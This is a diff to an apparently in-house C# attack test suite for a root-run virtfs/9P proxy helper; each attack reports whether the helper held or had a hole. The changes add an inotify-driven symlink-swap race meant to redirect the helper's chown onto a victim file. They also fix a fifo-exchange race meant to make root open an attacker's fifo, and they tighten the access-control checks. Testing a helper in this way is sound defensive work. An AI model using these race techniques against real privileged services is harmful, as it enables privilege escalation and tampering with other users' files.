@@ -47,7 +47,8 @@ internal static unsafe partial class Program
                 "foreign-peer" => ForeignPeer(sock),
                 _ => (Setup, $"unknown attack {args[0]}"),
             };
-            Console.WriteLine((rc == Held ? "held: " : rc == Hole ? "HOLE: " : "setup: ") + line);
+            string prefix = rc == Hole ? "HOLE: " : rc == Setup ? "setup: " : args[0] == "socket-race" ? "race: " : "held: ";
+            Console.WriteLine(prefix + line);
             return rc;
         }
         catch (Exception e)
@@ -179,37 +180,103 @@ internal static unsafe partial class Program
     private static partial int rename(byte* oldpath, byte* newpath);
 
     [LibraryImport("libc", SetLastError = true)]
+    private static partial int inotify_init1(int flags);
+
+    [LibraryImport("libc", SetLastError = true)]
+    private static partial int inotify_add_watch(int fd, byte* path, uint mask);
+
+    [LibraryImport("libc", SetLastError = true)]
     private static partial int renameat2(int olddirfd, byte* oldpath, int newdirfd, byte* newpath, uint flags);
 
-    // 5. The racing half only (attacks.sh starts and kills the helper and judges by the victim's owner): whenever the
-    // socket path is a socket (the helper just bound it), rename a symlink to the victim over it, so the helper's
-    // chown(path) lands on the victim. Runs until STOPFILE exists or SECONDS pass; prints how many swaps it made.
+    // 5. The racing half only (attacks.sh starts and kills the helper and judges by the victim's owner): when the
+    // helper creates the socket in our directory (bind) and is about to chown() it BY PATH, rename a ready-made
+    // symlink to the victim over it, so the chown follows it to the victim. Waiter threads block on inotify: bind's
+    // IN_CREATE wakes them from inside the helper's syscall, and the wake-up tends to preempt the helper right there
+    // (wins ~half the starts on this 2-core machine). Optional spinning threads poll lstat instead (rarely win).
+    // VIRTFS_ATTACK_WAITERS (default 2) / VIRTFS_ATTACK_RACERS (default 0) set how many of each. Runs until STOPFILE
+    // exists or SECONDS pass; prints how many swaps it made.
     private static (int, string) SocketRace(string sockPath, string victim, double seconds, string stopFile)
     {
         string dir = Path.GetDirectoryName(sockPath)!;
-        string tmp = Path.Combine(dir, ".a5-link");
         var sw = Stopwatch.StartNew();
-        long swaps = 0, spins = 0;
+        long swaps = 0;
+        int setupErrno = 0;
+        bool stop = false;
         uint victimUid0 = (uint)Stat(victim).st_uid;
-        bool sawOurs = false;
-        fixed (byte* s = Z(sockPath)) fixed (byte* t = Z(tmp)) fixed (byte* v = Z(victim))
+        var racers = new List<Thread>();
+        int threads = int.TryParse(Environment.GetEnvironmentVariable("VIRTFS_ATTACK_RACERS"), out int n) && n >= 0 ? n : 0;
+        for (int i = 0; i < threads; i++)
         {
-            unlink(t);
-            while (sw.Elapsed.TotalSeconds < seconds)
+            string tmp = Path.Combine(dir, $".a5-link-{i}");
+            var t = new Thread(() =>
             {
-                if ((++spins & 0xFFF) == 0)
+                fixed (byte* s = Z(sockPath)) fixed (byte* t = Z(tmp)) fixed (byte* v = Z(victim))
                 {
-                    if (File.Exists(stopFile)) break;
-                    stat vs;
-                    if (LibC.stat(v, &vs) == 0 && (uint)vs.st_uid == MyUid) sawOurs = true;
+                    unlink(t);
+                    if (symlink(v, t) < 0) { setupErrno = errno; return; }
+                    while (!Volatile.Read(ref stop))
+                    {
+                        stat st;
+                        if (lstat(s, &st) < 0 || ((uint)st.st_mode & 0xF000) != 0xC000) continue;
+                        if (rename(t, s) == 0)
+                        {
+                            Interlocked.Increment(ref swaps);
+                            symlink(v, t); // ready for the next start
+                        }
+                    }
                 }
-                stat st;
-                if (lstat(s, &st) < 0 || ((uint)st.st_mode & 0xF000) != 0xC000) continue;
-                if (symlink(v, t) < 0 && errno != EEXIST) return (Setup, $"symlink in {dir} failed: errno {errno}");
-                if (rename(t, s) == 0) swaps++;
-            }
+            }) { IsBackground = true };
+            t.Start();
+            racers.Add(t);
         }
-        return (Held, $"race ran {sw.Elapsed.TotalSeconds:F1}s, {swaps} swaps (victim uid was {victimUid0}{(sawOurs ? ", seen ours" : "")}); attacks.sh judges");
+        // the inotify waiters
+        int waiters = int.TryParse(Environment.GetEnvironmentVariable("VIRTFS_ATTACK_WAITERS"), out n) && n >= 0 ? n : 2;
+        byte[] sockNameBytes = B(Path.GetFileName(sockPath));
+        for (int i = 0; i < waiters; i++)
+        {
+            string tmp = Path.Combine(dir, $".a5-wlink-{i}");
+            var t = new Thread(() =>
+            {
+                int ino = inotify_init1(O_CLOEXEC);
+                if (ino < 0) { setupErrno = Marshal.GetLastPInvokeError(); return; }
+                byte[] buf = new byte[4096];
+                fixed (byte* s = Z(sockPath)) fixed (byte* t = Z(tmp)) fixed (byte* v = Z(victim)) fixed (byte* d = Z(dir)) fixed (byte* b = buf)
+                {
+                    unlink(t);
+                    if (symlink(v, t) < 0 || inotify_add_watch(ino, d, 0x100 /* IN_CREATE */) < 0) { setupErrno = errno; close(ino); return; }
+                    while (!Volatile.Read(ref stop))
+                    {
+                        var pfd = new pollfd { fd = ino, events = POLLIN };
+                        if (poll(&pfd, 1, 100) <= 0) continue;
+                        long got = read(ino, b, buf.Length);
+                        // struct inotify_event { int wd; u32 mask, cookie, len; char name[len]; }: the socket's
+                        // creation (our own renames are IN_MOVED_TO, our symlinks have other names): swap at once
+                        bool ours = false;
+                        for (long off = 0; off + 16 <= got; off += 16 + *(uint*)(b + off + 12))
+                        {
+                            uint len = *(uint*)(b + off + 12);
+                            var name = new ReadOnlySpan<byte>(b + off + 16, (int)len);
+                            int nul = name.IndexOf((byte)0);
+                            if (nul >= 0) name = name[..nul];
+                            if (name.SequenceEqual(sockNameBytes)) ours = true;
+                        }
+                        if (ours && rename(t, s) == 0)
+                        {
+                            Interlocked.Increment(ref swaps);
+                            symlink(v, t);
+                        }
+                    }
+                }
+                close(ino);
+            }) { IsBackground = true };
+            t.Start();
+            racers.Add(t);
+        }
+        while (sw.Elapsed.TotalSeconds < seconds && !File.Exists(stopFile) && setupErrno == 0) Thread.Sleep(50);
+        Volatile.Write(ref stop, true);
+        foreach (var t in racers) t.Join(2000);
+        if (setupErrno != 0) return (Setup, $"symlink in {dir} failed: errno {setupErrno}");
+        return (Held, $"race ran {sw.Elapsed.TotalSeconds:F1}s, {swaps} swaps (victim uid was {victimUid0}); attacks.sh judges");
     }
 
     // 6. T_OPEN of a path whose last component we keep exchanging between a regular file and a fifo: the helper's
@@ -234,14 +301,15 @@ internal static unsafe partial class Program
             if (opath < 0) return (Setup, $"O_PATH open of the fifo failed: errno {errno}");
         }
         string fifo = $"/proc/self/fd/{opath}";
-        int opened = 0, decided = 0;
+        int opened = 0, decided = 0, writerErrno = 0, swapErrno = 0;
         var writer = new Thread(() =>
         {
             fixed (byte* p = Z(fifo))
             {
                 int w = open(p, O_WRONLY | O_CLOEXEC, 0); // blocks until someone opens the fifo for reading
+                if (w < 0) { writerErrno = errno; return; }
                 if (Volatile.Read(ref decided) == 0) Volatile.Write(ref opened, 1);
-                if (w >= 0) close(w);
+                close(w);
             }
         }) { IsBackground = true };
         writer.Start();
@@ -251,7 +319,8 @@ internal static unsafe partial class Program
         {
             fixed (byte* a = Z("a")) fixed (byte* b = Z("b"))
                 while (!Volatile.Read(ref stop))
-                    if (renameat2(dir, a, dir, b, 1 /* RENAME_EXCHANGE */) == 0) exchanges++;
+                    if (renameat2(dir, a, dir, b, 2 /* RENAME_EXCHANGE */) == 0) exchanges++;
+                    else swapErrno = Marshal.GetLastPInvokeError();
         }) { IsBackground = true };
         swapper.Start();
         var sw = Stopwatch.StartNew();
@@ -274,7 +343,8 @@ internal static unsafe partial class Program
             if (rd >= 0) close(rd);
         }
         close(opath);
-        if (exchanges == 0) return (Setup, "renameat2(RENAME_EXCHANGE) never succeeded here");
+        if (writerErrno != 0) return (Setup, $"our blocking open of the fifo failed: errno {writerErrno}");
+        if (exchanges == 0) return (Setup, $"renameat2(RENAME_EXCHANGE) never succeeded here (errno {swapErrno}, {tries} T_OPENs, opened {hole})");
         return hole
             ? (Hole, $"root opened our fifo for reading (blocked writer woke) after {tries} T_OPENs, {sw.Elapsed.TotalSeconds:F1}s")
             : (Held, $"{tries} T_OPENs in {sw.Elapsed.TotalSeconds:F1}s, {exchanges} exchanges: the fifo was never opened");
@@ -306,11 +376,12 @@ internal static unsafe partial class Program
         return fd;
     }
 
-    /// <summary>T_LSTAT "/" on a fresh connection, answered within <paramref name="timeout"/>?</summary>
-    private static (bool answered, string what) LstatRoot(string sock, TimeSpan timeout)
+    /// <summary>T_LSTAT "/" on a fresh connection, answered within <paramref name="timeout"/>? (answered: any reply,
+    /// success or an errno; served: the stat itself.)</summary>
+    private static (bool answered, bool served, string what) LstatRoot(string sock, TimeSpan timeout)
     {
         string what = "";
-        bool answered = false;
+        bool answered = false, served = false;
         var t = new Thread(() =>
         {
             try
@@ -318,13 +389,14 @@ internal static unsafe partial class Program
                 using var c = ProxyClient.Connect(sock);
                 int r = c.Lstat("/"u8, out ProxyStat st);
                 answered = true;
+                served = r == 0;
                 what = r == 0 ? $"T_LSTAT / answered (mode {Convert.ToString(st.Mode, 8)})" : "T_LSTAT / answered with an error: " + Err(r);
             }
             catch (Exception e) { what = "refused: " + e.Message; }
         }) { IsBackground = true };
         t.Start();
-        if (!t.Join(timeout)) return (false, $"no answer within {timeout.TotalSeconds:F0}s");
-        return (answered, what);
+        if (!t.Join(timeout)) return (false, false, $"no answer within {timeout.TotalSeconds:F0}s");
+        return (answered, served, what);
     }
 
     // 8. Connections that stop mid-request must not starve everyone else.
@@ -348,7 +420,7 @@ internal static unsafe partial class Program
                 fixed (byte* m = msg) send(fd, m, n, MSG_NOSIGNAL);
             }
             Thread.Sleep(500); // let the helper accept them
-            var (answered, what) = LstatRoot(sock, TimeSpan.FromSeconds(3));
+            var (answered, _, what) = LstatRoot(sock, TimeSpan.FromSeconds(3));
             return answered
                 ? (Held, $"{fds.Count} stalled connections, a fresh one still served: {what}")
                 : (Hole, $"{fds.Count} stalled connections, a fresh one was not served: {what}");
@@ -362,7 +434,8 @@ internal static unsafe partial class Program
         int fd = RawConnect(sock);
         if (fd < 0) return (Held, $"uid {MyUid} cannot connect: errno {-fd}");
         close(fd);
-        var (answered, what) = LstatRoot(sock, TimeSpan.FromSeconds(3));
-        return answered ? (Hole, $"uid {MyUid} gid {MyGid} served: {what}") : (Held, $"uid {MyUid} not served: {what}");
+        // an errno reply (EPERM...) or a closed connection is a refusal; only the stat itself is a hole
+        var (_, served, what) = LstatRoot(sock, TimeSpan.FromSeconds(3));
+        return served ? (Hole, $"uid {MyUid} gid {MyGid} served: {what}") : (Held, $"uid {MyUid} not served: {what}");
     }
 }
